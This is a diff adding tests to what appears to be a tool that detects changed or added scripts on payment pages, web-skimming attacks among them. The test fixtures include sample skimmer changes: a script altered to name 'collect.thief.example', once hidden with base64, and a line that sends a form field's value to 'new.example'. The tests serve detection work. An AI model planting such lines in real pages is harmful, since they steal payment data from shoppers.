@@ -1,8 +1,11 @@
-import { expect, it } from 'vitest';
+import { createHash } from 'node:crypto';
+import { describe, expect, it } from 'vitest';
 import { exchange, goldenInspection, got, homePage } from '../checks/golden-inspection.ts';
 import { judgeInspection } from '../checks/judge-inspection.ts';
 import { goldenPayment, goldenScript } from '../checks/payment/golden-payment.ts';
+import { shapeOf } from '../checks/payment/shape-of.ts';
 import type { Inspection, PaymentPage, Script } from '../inspection.ts';
+import { readBaseline, writeBaseline } from './baseline.ts';
 import { compareHeaders } from './compare-headers.ts';
 import { budgetRows, compareMeasures } from './compare-measures.ts';
 import { compareScripts, goneFrom } from './compare-page.ts';
@@ -48,6 +51,71 @@ it('new scripts are graded by who may change them; one more chunk of a name is o
     `high eval:${'c'.repeat(24)}`,
   ]);
   expect(goneFrom(before, now)).toEqual(['script /old.js']);
+});
+
+const inline = (source: string): { readonly script: Script; readonly sources: Readonly<Record<string, string>> } => {
+  const sha = (text: string) => createHash('sha256').update(text).digest('hex');
+  const hash = sha(source);
+  return {
+    script: goldenScript({ url: `${NOW}/checkout`, party: 'inline', hash, shape: sha(shapeOf(source)) }),
+    sources: { [hash]: source },
+  };
+};
+const lookAtInline = (source: string) => {
+  const { script: one, sources } = inline(source);
+  return look(NOW, [one], { sources });
+};
+const CART = `var cart = { total: 12, token: 'aaaaaaaaaaaaaaaaaaaa' }; function show(n) { el.textContent = n; } show(cart.total); fetch('/api/cart'); track('seen'); track('shown');`;
+
+describe('a script in the page itself', () => {
+  const before = agree(lookAtInline(CART));
+
+  it('that carries other numbers and texts is the same', () => {
+    const now = lookAtInline(CART.replace('12', '99').replace('aaaaaaaaaaaaaaaaaaaa', 'bbbbbbbbbbbbbbbbbbbbbb'));
+    expect(compareScripts(before, now, NOW)).toEqual([]);
+  });
+
+  it('of which only a long text changed is told as changed when that text names another host', () => {
+    const now = lookAtInline(CART.replace('aaaaaaaaaaaaaaaaaaaa', 'https://collect.thief.example/p'));
+    expect(compareScripts(before, now, NOW)).toMatchObject([
+      {
+        title: expect.stringContaining('The release changes a script in the payment page'),
+        evidence: [expect.any(String), 'it now names collect.thief.example'],
+      },
+    ]);
+    // Also behind an encoding that anybody undoes.
+    const hidden = lookAtInline(CART.replace('aaaaaaaaaaaaaaaaaaaa', btoa('https://collect.thief.example/p')));
+    expect(compareScripts(before, hidden, NOW)).toHaveLength(1);
+  });
+
+  it('that changed is told as changed, with its new lines and how many went, and keeps its owner; another one is new', () => {
+    const owned = { ...before, scripts: before.scripts?.map((one) => ({ ...one, owner: 'Ada', reason: 'the cart' })) };
+    const changed = lookAtInline(CART.replace("track('seen');", "send('https://new.example/x', el.value);"));
+    const [item, ...rest] = compareScripts(owned, changed, NOW);
+    expect(rest).toEqual([]);
+    expect(item).toMatchObject({
+      severity: 'medium',
+      title: `The release changes a script in the payment page: ${before.scripts?.[0]?.key}`,
+    });
+    expect(item?.evidence).toEqual(
+      expect.arrayContaining(['it now names new.example', "+ send('https://new.example/x', el.value);", '1 line of before is gone']),
+    );
+    expect(mergeBaseline(owned, { items: [], seen: changed, sure: new Set(), today: '2026-01-01' }).scripts).toMatchObject([
+      { owner: 'Ada' },
+    ]);
+    const other = lookAtInline('document.querySelector("form").addEventListener("submit", go); function go(e) { e.preventDefault(); }');
+    expect(compareScripts(before, other, NOW)).toMatchObject([{ title: expect.stringContaining('adds a script') }]);
+  });
+
+  it('is remembered by marks, not by its text, and a baseline from before these marks still reads', () => {
+    const written = writeBaseline(before, 'b.yml');
+    expect(written).not.toContain('textContent');
+    expect(readBaseline(Buffer.from(written), 'b.yml').scripts).toEqual(before.scripts);
+    const plain = { ...before, scripts: before.scripts?.map(({ trace: _trace, ...rest }) => rest) };
+    expect(compareScripts(plain, lookAtInline(CART.replace("track('seen');", 'other();')), NOW)).toMatchObject([
+      { title: expect.stringContaining('adds a script') },
+    ]);
+  });
 });
 
 it('a look that was cut short adds what it saw, and makes no inventory', () => {
